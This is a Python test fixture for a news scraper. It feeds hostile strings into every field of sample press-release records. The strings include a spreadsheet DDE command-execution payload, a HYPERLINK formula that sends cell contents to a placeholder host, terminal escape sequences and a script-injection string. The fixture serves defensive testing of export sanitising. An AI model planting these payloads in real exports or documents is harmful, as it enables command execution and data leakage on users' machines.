"""Text that means harm to somebody: spreadsheets, terminals, parsers, readers of feeds."""

from __future__ import annotations

from scraper.records import Article, Image, Link, Quote
from tests.archive.corpus import article

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"klick")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''@x",
)
STEERING = (
    "\x1b]0;neuer Titel\x07",
    "\x1b[2J\x1b[31mrot",
    "\x9b31m",
    "\x00vor\x00nach",
    "a\x08b\x7fc\x85d",
)
AWKWARD = (
    'Sie sagte: "Ja", dann „Nein“; und ging.',
    "erste Zeile\r\nzweite\rdritte\nvierte",
    "\u202egnal\u202c \u200fשלום\u200e \u2066x\u2069",
    "a\u2028b\u2029c",
    "]]></content><script>alert(1)</script>&amp;&lt;",
    "NA",
    "null",
    "\\N",
    "1,5",
    "a;b,c\td|e",
    "\ufffe\uffff 🏗️ e\u0301",
    "'",
    '"',
)
EVERY = (*FORMULAS, *STEERING, *AWKWARD)
MEGABYTE = ('Ärger; mit "langen" Zellen,\n' * 40_000)[: 1 << 20]


def releases() -> list[Article]:
    """One release per text, which stands in every field that can hold it; and a long one."""
    made = [
        article(
            f"hostile-{number}",
            text,
            text,
            lead=text,
            kicker=text,
            published="2026-09-01T10:00:00+02:00",
            district=text,
            tags=(text,),
            quotes=(Quote(text, text, text),),
            images=(Image("https://www.dortmund.de/x.webp", text, text, text, (text,)),),
            links=(Link("https://www.dortmund.de/x.pdf", text, "download"),),
        )
        for number, text in enumerate(EVERY)
    ]
    return [*made, article("long", "Eine lange Mitteilung", MEGABYTE, published="2026-09-02")]
